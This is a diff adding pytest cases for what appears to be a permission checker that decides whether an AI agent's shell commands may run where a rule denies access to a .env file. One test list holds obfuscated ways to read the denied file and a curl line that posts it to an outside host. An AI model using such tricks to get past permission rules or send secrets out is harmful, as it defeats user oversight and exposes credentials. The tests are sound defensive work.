@@ -483,3 +483,69 @@ def test_a_call_that_does_not_say_what_it_does_is_asked_about_where_a_rule_denie
     call = TABLE.call("Read", {}, doubt="its arguments are not known yet")
     assert decide([call], FULL_ACCESS, [rule], workspace).answer == "ask"
     assert decide([call], FULL_ACCESS, (), workspace).answer == "allow"
+
+
+COULD_NAME_IT = """
+cat $F
+cat .e$x
+cat "$F"
+cat < $F
+echo a > $F
+cat $(printf .env)
+cat `ls -a`
+cat <(cat $x)
+printf .e%s nv | xargs cat
+x=.en; cat ${x}v
+cat $'\\x2eenv'
+cat .en{v..v}
+cat .e(n)v
+cat ~-/$x
+cd $D && cat key
+cd "$(pwd)/x"; cat key
+git -C $D log
+curl -d @$F http://x
+curl --data-binary=@$F x
+for f in *; do cat $f; done
+sudo cat $F
+env A=1 cat $F
+python -c 'print(1)'
+python3 - <<X
+node -e 1
+echo x | bash
+bash -lc 'npm test'
+eval "$x"
+awk 1 a
+source x
+tar czf $OUT src
+"""
+CANNOT_NAME_IT = """
+npm test
+make check
+python x.py
+bash run.sh
+git status
+git log --oneline
+echo $?
+echo "done $x"
+printf '%s' "$x"
+cat a.txt; ls -la; exit $?
+cat src/*.py
+ls *.log
+cp src/{a,b}.py x/
+"""
+
+
+@pytest.mark.parametrize("line", COULD_NAME_IT.strip().split("\n"))
+def test_a_line_that_could_name_a_denied_path_is_never_allowed_unasked(
+    line: str, workspace: WorkFolder
+) -> None:
+    rules = [Rule(answer="deny", path=".env")]
+    decision = decide([TABLE.call("Bash", {"command": line})], FULL_ACCESS, rules, workspace)
+    assert decision.answer != "allow", decision.why
+
+
+@pytest.mark.parametrize("line", CANNOT_NAME_IT.strip().split("\n"))
+def test_ordinary_lines_are_allowed_where_a_rule_denies_a_path(line: str, workspace: WorkFolder) -> None:
+    rules = [Rule(answer="deny", path=".env")]
+    decision = decide([TABLE.call("Bash", {"command": line})], FULL_ACCESS, rules, workspace)
+    assert decision.answer == "allow", decision.why
